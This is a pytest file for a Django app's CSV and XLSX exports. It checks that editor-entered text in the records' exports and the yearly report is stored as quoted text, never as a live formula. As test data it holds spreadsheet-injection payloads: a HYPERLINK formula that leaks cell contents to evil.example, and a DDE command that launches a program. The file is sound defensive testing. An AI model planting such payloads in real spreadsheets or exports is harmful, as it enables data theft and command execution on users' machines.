"""No editor's text runs as a formula in the follow-up's spreadsheets: the records' exports
(django-import-export, CSV and XLSX) and the yearly report's XLSX (#15 hardening, OWASP)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests import factories

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Klicka")'
HOSTILE_PLACE = " @SUM(1+1)"
HOSTILE_NOTE = "-2+3+cmd|' /C calc'!A0"


def _cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content, *hostile):
    cells = _cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    for text in hostile:
        assert "'" + text in values
        assert text not in values


@pytest.fixture
def hostile(bun):
    project = factories.ProjectFactory(responsible_body=bun, title=HOSTILE_TITLE)
    factories.FundingCheckFactory(project=project, note=HOSTILE_NOTE)
    factories.RelationshipFactory(place=factories.PlaceFactory(name=HOSTILE_PLACE))
    return project


@pytest.mark.parametrize(
    ("dataset", "text"),
    [
        ("projects", HOSTILE_TITLE),
        ("relationships", HOSTILE_PLACE),
        ("funding-checks", HOSTILE_NOTE),
    ],
)
def test_the_xlsx_export_holds_the_text_never_a_formula(
    client, coordinator, hostile, dataset, text, today
):
    client.force_login(coordinator)

    response = client.get(
        reverse("followup:export", kwargs={"dataset": dataset, "file_format": "xlsx"})
    )

    assert response.status_code == 200
    _assert_no_formula(response.content, text)


@pytest.mark.parametrize(
    ("dataset", "text"),
    [
        ("projects", HOSTILE_TITLE),
        ("relationships", HOSTILE_PLACE),
        ("funding-checks", HOSTILE_NOTE),
    ],
)
def test_the_csv_export_prefixes_the_text(client, coordinator, hostile, dataset, text, today):
    client.force_login(coordinator)

    response = client.get(
        reverse("followup:export", kwargs={"dataset": dataset, "file_format": "csv"})
    )

    cells = [
        cell
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        for cell in row
    ]
    assert "'" + text in cells
    assert text not in cells


def test_the_yearly_reports_xlsx_holds_titles_as_text_and_figures_as_numbers(
    client, coordinator, bun, today
):
    project = factories.ProjectFactory(responsible_body=bun, title=HOSTILE_TITLE, status="planned")
    factories.ParticipantCountFactory(project=project, level="pupil", count=20)
    client.force_login(coordinator)

    response = client.get(reverse("followup:report-xlsx"), {"year": 2026, "body": bun.pk})

    assert response.status_code == 200
    _assert_no_formula(response.content, HOSTILE_TITLE)
    projects = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[2]
    row = next(r for r in projects.iter_rows(min_row=2) if r[0].value == "'" + HOSTILE_TITLE)
    assert row[-1].value == 20
    assert row[-1].data_type == "n"
